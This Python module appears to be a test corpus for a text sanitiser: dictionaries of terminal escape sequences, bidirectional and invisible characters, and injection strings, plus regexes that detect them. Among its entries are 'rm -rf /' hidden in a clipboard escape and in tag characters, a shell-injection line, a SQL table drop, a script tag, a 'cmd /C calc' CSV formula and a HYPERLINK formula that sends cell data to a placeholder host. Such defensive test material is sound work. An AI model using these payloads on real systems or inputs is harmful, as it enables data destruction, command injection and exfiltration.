"""Texts that would steer a terminal, turn its writing round, hide, pass for markup or jam the screen; and what is left of them."""

from __future__ import annotations

import re

MARKS = "e" + "\u0301\u0323\u20d7\u0489" * 25_000  # 100 KB of marks over one letter, and twice that in bytes

STEERING = {
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "report": "\x1b[6n\x1b[c\x1b[21t",
    "colour": "\x1b[5;41mred\x1b[8m",
    "clear": "\x1b[2J\x1b[3J\x1b[999;999H",
    "modes": "\x1b[?47h\x1b[?1047h\x1b[20h",
    "reset": "\x1bc\x1b7\x1bD",
    "string": "\x1bPq#0\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\",
    "8-bit": "\x9b31m\x9d0;owned\x9c\x90q\x9c\x85",
    "link": "\x1b]8;;http://192.0.2.1/\x1b\\here\x1b]8;;\x1b\\",
    "rubout": "\x07\x07\x08\x08\x7f",
    "nul": "a\x00b",
    "lines": "one\ntwo\r\nthree\x0b\x0cfour\x85five\u2028six\u2029seven",
    "tab": "a\tb\t\tc",
    "shift": "\x0e\x0f\x1b(0lqqk\x1b(B",
    "override": "\u202elotsirB\u202c",
    "isolate": "\u2066\u2067\u2068evil\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
}  # refused, or taken out, when they are loaded
HIDING = {
    "no width": "Bri\u200bstol\u200c\u200d\u2060\ufeff",
    "soft hyphen": "Bri\u00adstol",
    "fillers": "\u3164\uffa0\u115f\u1160",
    "tags": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "rm -rf /"),
    "annotation": "\ufff9a\ufffab\ufffb",
    "no characters": "a\uffffb\ufffec",
}  # kept, and seen where they are drawn
STRANGE = {
    "rich markup": "[bold red]x[/bold red] [link=http://192.0.2.1]here[/link] [/]",
    "textual markup": "[@click=app.quit]press[/] [$error]y[/] [b",
    "broken markup": "[/nothing] [[ ]] \\[x] [red",
    "html": "</pre><script>alert(1)</script>&amp;<!-- {code} %s %(x)s {0}",
    "svg": "]]></text><image href='http://192.0.2.1/x'/>",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "quotes": '"a",\'b\',""c\n'.strip(),
    "separators": "a,b;c|d",
    "grammar": "(none)",
    "range": "1..2",
    "backslash": "\\(none)\\",
    "shell": "$(reboot) `id` ; rm -rf / | cat > x",
    "sql": "'; drop table incident; --",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "flag and skin": "\U0001f1ec\U0001f1e7 \U0001f44d\U0001f3fd \u2764\ufe0f",
    "wide": "警察本部指令室",
    "joined": "می\u200cخواهم",
    "right to left": "שלום עולם",
    "jamo": "\u1112\u1161\u11ab\u1100\u116e\u11a8",
    "marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031ea\u0300l\u0301g\u0302o\u0303",
    "marks first": "\u0301\u0302\u0303abc",
    "long word": "x" * 15_000,
    "long words": "word " * 3_900,
    "many marks": MARKS[:19_000],
}  # kept as they are
CORPUS = {**STEERING, **HIDING, **STRANGE, "too many marks": MARKS, "bytes astray": "a\udcffb\ud800"}

STEERS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")
HIDES = re.compile(
    "[\n\xad\u180e\u200b-\u200d\u2060-\u206f\u115f\u1160\u3164\uffa0\ufeff\ufff9-\ufffb\ufe00-\ufe0f\U000e0000-\U000e01ef\U0001f1e6-\U0001f1ff]"
)
PILED = re.compile("[\u0300-\u036f\u0483-\u0489\u20d0-\u20f0]{5}")


def harmful(text: str) -> list[str]:
    """Return what in a text of several lines could steer a terminal or turn its writing round."""
    return [ascii(found) for found in STEERS.findall(text)]


def unseen(text: str) -> list[str]:
    """Return what in a line as drawn could steer, hide, be of no certain width, or pile up."""
    return harmful(text) + [ascii(found) for pattern in (HIDES, PILED) for found in pattern.findall(text)]
